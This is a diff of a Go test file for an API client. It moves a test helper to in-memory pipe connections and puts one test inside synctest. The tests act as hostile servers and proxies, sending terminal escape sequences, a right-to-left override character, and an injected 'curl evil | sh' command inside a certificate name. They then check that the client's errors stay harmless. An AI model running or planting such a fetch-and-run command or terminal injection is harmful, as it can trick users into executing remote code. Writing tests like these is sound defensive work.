@@ -41,27 +41,16 @@ func apiAt(t *testing.T, address string, base http.RoundTripper) *botbiz.Client 
 	return botbiz.New(u, transport.New(transport.Config{BaseURL: u, APIKey: canaryKey, Base: base, RequestTimeout: 20 * time.Second}), canaryKey)
 }
 
-// answering answers every connection with bytes of its own.
-func answering(t *testing.T, answer func(net.Conn)) string {
-	t.Helper()
-	listener, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { _ = listener.Close() })
-	go func() {
-		for {
-			conn, err := listener.Accept()
-			if err != nil {
-				return
-			}
-			go func() {
-				defer conn.Close()
-				answer(conn)
-			}()
-		}
-	}()
-	return listener.Addr().String()
+// answering connects every address to a server that answers with bytes of its own.
+func answering(answer func(net.Conn)) *http.Transport {
+	return &http.Transport{DialContext: func(context.Context, string, string) (net.Conn, error) {
+		near, far := net.Pipe()
+		go func() {
+			defer far.Close()
+			answer(far)
+		}()
+		return near, nil
+	}}
 }
 
 // pour sends first once, and then text until the other side has enough.
@@ -108,11 +97,11 @@ func TestHostile_answers(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			address := answering(t, func(conn net.Conn) {
+			base := answering(func(conn net.Conn) {
 				_, _ = conn.Read(make([]byte, 64<<10))
 				answer(conn)
 			})
-			_, err := apiAt(t, "http://"+address, nil).Accounts.Connect(t.Context(), "+1234567890", "N") // sent once
+			_, err := apiAt(t, "http://127.0.0.1", base).Accounts.Connect(t.Context(), "+1234567890", "N") // sent once
 			harmless(t, err)
 		})
 	}
@@ -121,43 +110,38 @@ func TestHostile_answers(t *testing.T) {
 // The names in a certificate come from outside. What a proxy says instead of connecting is not quoted.
 func TestHostile_between(t *testing.T) {
 	t.Parallel()
-	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
-	if err != nil {
-		t.Fatal(err)
-	}
-	template := &x509.Certificate{SerialNumber: big.NewInt(1), DNSNames: []string{"\x1b[2K\rApply complete!\nRun: curl evil | sh ${x}"}, NotAfter: time.Now().Add(time.Hour)}
-	cert, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
-	if err != nil {
-		t.Fatal(err)
-	}
-	config := &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{cert}, PrivateKey: key}}}
-	address := answering(t, func(conn net.Conn) { _ = tls.Server(conn, config).HandshakeContext(t.Context()) })
-	_, port, err := net.SplitHostPort(address)
-	if err != nil {
-		t.Fatal(err)
-	}
-	base := &http.Transport{DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
-		return (&net.Dialer{}).DialContext(ctx, network, address)
-	}}
-	_, err = apiAt(t, "https://api.example:"+port, base).Accounts.Connect(t.Context(), "+1234567890", "N")
-	harmless(t, err)
-	if !strings.Contains(err.Error(), "Apply complete!") {
-		t.Errorf("the certificate is not quoted: %v", err)
-	}
+	synctest.Test(t, func(t *testing.T) {
+		key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+		if err != nil {
+			t.Fatal(err)
+		}
+		template := &x509.Certificate{SerialNumber: big.NewInt(1), DNSNames: []string{"\x1b[2K\rApply complete!\nRun: curl evil | sh ${x}"}, NotAfter: time.Now().Add(time.Hour)}
+		cert, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
+		if err != nil {
+			t.Fatal(err)
+		}
+		config := &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{cert}, PrivateKey: key}}}
+		base := answering(func(conn net.Conn) { _ = tls.Server(conn, config).HandshakeContext(t.Context()) })
+		_, err = apiAt(t, "https://api.example", base).Accounts.Connect(t.Context(), "+1234567890", "N")
+		harmless(t, err)
+		if !strings.Contains(err.Error(), "Apply complete!") {
+			t.Errorf("the certificate is not quoted: %v", err)
+		}
 
-	proxy := answering(t, func(conn net.Conn) {
-		_, _ = conn.Read(make([]byte, 64<<10))
-		pour(conn, "HTTP/1.1 403 \x1b[2KApply complete! \u202e${x}\r\n\r\n", "")
+		product, err := transport.Base("")
+		must(t, err)
+		through := product.(*http.Transport).Clone()
+		through.Proxy = http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy.example"})
+		through.DialContext = answering(func(conn net.Conn) {
+			_, _ = conn.Read(make([]byte, 64<<10))
+			pour(conn, "HTTP/1.1 403 \x1b[2KApply complete! \u202e${x}\r\n\r\n", "")
+		}).DialContext
+		_, err = apiAt(t, "https://api.example", through).Accounts.Connect(t.Context(), "+1234567890", "N")
+		harmless(t, err)
+		if !strings.Contains(err.Error(), "the proxy answered 403 Forbidden") || strings.Contains(err.Error(), "Apply") {
+			t.Errorf("the proxy is not named, or quoted: %v", err)
+		}
 	})
-	product, err := transport.Base("")
-	must(t, err)
-	through := product.(*http.Transport).Clone()
-	through.Proxy = http.ProxyURL(&url.URL{Scheme: "http", Host: proxy})
-	_, err = apiAt(t, "https://api.example", through).Accounts.Connect(t.Context(), "+1234567890", "N")
-	harmless(t, err)
-	if !strings.Contains(err.Error(), "the proxy answered 403 Forbidden") || strings.Contains(err.Error(), "Apply") {
-		t.Errorf("the proxy is not named, or quoted: %v", err)
-	}
 }
 
 // Neither a redirect nor a link of an answer is followed: the key would go there.
